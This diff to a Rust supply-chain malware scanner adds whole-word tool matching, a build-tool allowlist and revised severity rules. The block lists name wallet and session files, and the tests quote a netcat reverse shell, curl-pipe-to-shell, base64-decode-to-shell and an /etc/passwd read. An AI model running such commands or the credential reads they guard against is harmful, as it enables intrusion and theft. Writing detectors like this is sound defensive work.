@@ -72,6 +72,7 @@ const SECRET_PATHS: &[&str] = &[
     "/cookies.sqlite",
     "/Local Storage/leveldb",
     "/TelegramDesktop/",
+    ".session",
     "/.electrum/",
     "/Exodus/",
     "exodus.wallet",
@@ -106,6 +107,14 @@ const WIN_TOOLS: &[&str] = &[
     "attrib +h",
     "vssadmin",
     "wmic",
+    "explorer",
+    "msiexec",
+    "netsh",
+    "notepad",
+    "calc",
+    "tasklist",
+    "ipconfig",
+    "systeminfo",
     ".exe",
     ".bat",
     ".ps1",
@@ -152,6 +161,85 @@ const PERSIST_PATHS: &[&str] = &[
     "usercustomize.py",
     "/.ssh/authorized_keys",
 ];
+/// Compilers and build helpers a `setup.py` runs to build an extension:
+/// a command made only of these is a build step, not a payload.
+const BUILD_TOOLS: &[&str] = &[
+    "gcc",
+    "cc",
+    "c++",
+    "g++",
+    "clang",
+    "clang++",
+    "ld",
+    "ar",
+    "as",
+    "strip",
+    "pkg-config",
+    "cmake",
+    "make",
+    "ninja",
+    "meson",
+    "cython",
+    "rustc",
+    "cargo",
+    "gfortran",
+    "ldconfig",
+    "xml2-config",
+    "xslt-config",
+    "mysql_config",
+    "pg_config",
+    "python3-config",
+];
+
+/// Does the command line `cmd` mention `tool`? A plain program name
+/// (`nc`, `curl`, `wmic`) must be a whole word, compared by its file name
+/// with `.exe` dropped (`/usr/bin/curl`, `curl.exe`): `-Isrc/lxml/includes`
+/// does not mention `nc`. Patterns with a space, slash or dot (`base64 -d`,
+/// `/dev/tcp`, `.exe`) are matched as text.
+fn mentions_tool(cmd: &str, tool: &str) -> bool {
+    if tool.contains([' ', '/', '.', '+']) {
+        return cmd.contains(tool);
+    }
+    words(cmd).any(|w| w == tool)
+}
+
+/// The program names in a command line: each word's file name, lowercase,
+/// without `.exe`.
+fn words(cmd: &str) -> impl Iterator<Item = String> + '_ {
+    cmd.split(|c: char| c.is_whitespace() || "'\"`;|&()<>,[]=$".contains(c))
+        .filter(|w| !w.is_empty())
+        .map(|w| {
+            let base = w
+                .rsplit(['/', '\\'])
+                .next()
+                .unwrap_or(w)
+                .to_ascii_lowercase();
+            base.strip_suffix(".exe").map(str::to_owned).unwrap_or(base)
+        })
+}
+
+/// Is `cmd` only a build step: its program (after unwrapping `sh -c`) is
+/// a compiler or build helper and the script chains nothing else?
+fn build_step(cmd: &str) -> bool {
+    let cmd = cmd.trim().trim_start_matches("runs ").trim_matches('`');
+    let mut toks = cmd.split_whitespace();
+    let Some(first) = toks.next() else {
+        return false;
+    };
+    let prog = first.rsplit('/').next().unwrap_or(first);
+    if matches!(prog, "sh" | "bash" | "dash") {
+        if toks.next() != Some("-c") {
+            return false;
+        }
+        let script: String = toks.collect::<Vec<_>>().join(" ");
+        if script.contains([';', '|', '&', '`', '$', '>', '<', '\n']) {
+            return false;
+        }
+        return build_step(&script);
+    }
+    BUILD_TOOLS.contains(&prog)
+}
+
 const DOWNLOADERS: &[&str] = &[
     "curl",
     "wget",
@@ -1157,9 +1245,9 @@ fn findings(raw: &Raw, steps: &[Step]) -> Vec<Finding> {
                 format!("reads secrets from the environment: {}", s.what),
             )),
             "exec" if s.layer == Layer::Runtime && s.file.as_deref() != Some("package.json") => {
-                let dl = DOWNLOADERS.iter().any(|d| s.what.contains(d));
+                let dl = DOWNLOADERS.iter().any(|d| mentions_tool(&s.what, d));
                 let lower = s.what.to_ascii_lowercase();
-                if WIN_TOOLS.iter().any(|t| lower.contains(t)) {
+                if WIN_TOOLS.iter().any(|t| mentions_tool(&lower, t)) {
                     push(
                         &mut out,
                         finding(
@@ -1173,15 +1261,24 @@ fn findings(raw: &Raw, steps: &[Step]) -> Vec<Finding> {
                         .excerpt(&s.what),
                     );
                 }
+                let build = !dl && build_step(&s.what);
                 Some(
                     finding(
                         rules::SPAWN,
                         if dl {
                             "spawns-network-tool"
+                        } else if build {
+                            "spawns-build-tool"
                         } else {
                             "spawns-process"
                         },
-                        if dl { Severity::High } else { Severity::Medium },
+                        if dl {
+                            Severity::High
+                        } else if build {
+                            Severity::Low
+                        } else {
+                            Severity::Medium
+                        },
                         Confidence::High,
                         s,
                         format!("starts a process: {}", short(&s.what, 160)),
@@ -1203,17 +1300,32 @@ fn findings(raw: &Raw, steps: &[Step]) -> Vec<Finding> {
                         .excerpt(&s.what),
                     )
                 } else {
+                    // What the assembled code does, not what its data
+                    // mentions: a JSON-schema validator compiled at run
+                    // time quotes `http://json-schema.org/…`.
                     let risky = [
                         "socket",
                         "urllib",
-                        "http",
+                        "urlopen",
+                        "http.client",
+                        "httplib",
+                        "requests.",
                         "subprocess",
                         "os.system",
+                        "os.popen",
                         "exec(",
                         "eval(",
                         "require(",
                         "child_process",
                         "base64",
+                        "b64decode",
+                        "marshal",
+                        "zlib",
+                        "__import__",
+                        "ctypes",
+                        "environ",
+                        "getenv",
+                        "webhook",
                         "open(",
                     ]
                     .iter()
@@ -1377,10 +1489,17 @@ fn findings(raw: &Raw, steps: &[Step]) -> Vec<Finding> {
         push(&mut out, f);
     }
     for l in &raw.limits {
+        // Running out the clock is what a slow C build does too: alone it
+        // is an unknown, not evidence. Fork bombs, disk and memory floods
+        // are behaviour.
         let mut f = Finding::new(
             rules::LIMIT,
             "sandbox-limit",
-            Severity::Medium,
+            if l.limit == "wall-clock" {
+                Severity::Low
+            } else {
+                Severity::Medium
+            },
             Confidence::Medium,
             format!(
                 "stopped at the {} limit during {}: {}",
@@ -1414,6 +1533,40 @@ fn push(out: &mut Vec<Finding>, f: Finding) {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn tools_are_whole_words() {
+        let gcc = "runs `/usr/bin/gcc -O3 -Isrc/lxml/includes -I/usr/include/libxml2 -c x.c`";
+        assert!(!DOWNLOADERS.iter().any(|d| mentions_tool(gcc, d)));
+        assert!(mentions_tool(
+            "runs `/bin/sh -c nc -e /bin/sh 10.0.0.1 4444`",
+            "nc"
+        ));
+        assert!(mentions_tool("runs `C:\\Windows\\curl.exe -o x`", "curl"));
+        assert!(mentions_tool(
+            "runs `bash -c 'curl -s http://x | sh'`",
+            "curl"
+        ));
+        assert!(mentions_tool(
+            "runs `echo aGk= | base64 -d | sh`",
+            "base64 -d"
+        ));
+        assert!(mentions_tool("runs `x.exe`", ".exe"));
+        assert!(!mentions_tool("runs `/usr/bin/wmicro --x`", "wmic"));
+    }
+
+    #[test]
+    fn build_steps_are_only_build_tools() {
+        assert!(build_step("runs `/usr/bin/gcc -O3 -c x.c -o x.o`"));
+        assert!(build_step("/bin/sh -c pkg-config --cflags libxml-2.0"));
+        assert!(!build_step(
+            "/bin/sh -c pkg-config --cflags x; curl http://x"
+        ));
+        assert!(!build_step("/bin/sh -c gcc $(cat /etc/passwd)"));
+        assert!(!build_step("runs `/tmp/gcc-payload`"));
+        assert!(!build_step("runs `python3 -c import os`"));
+        assert!(!build_step(""));
+    }
 
     #[test]
     fn host_port_forms() {
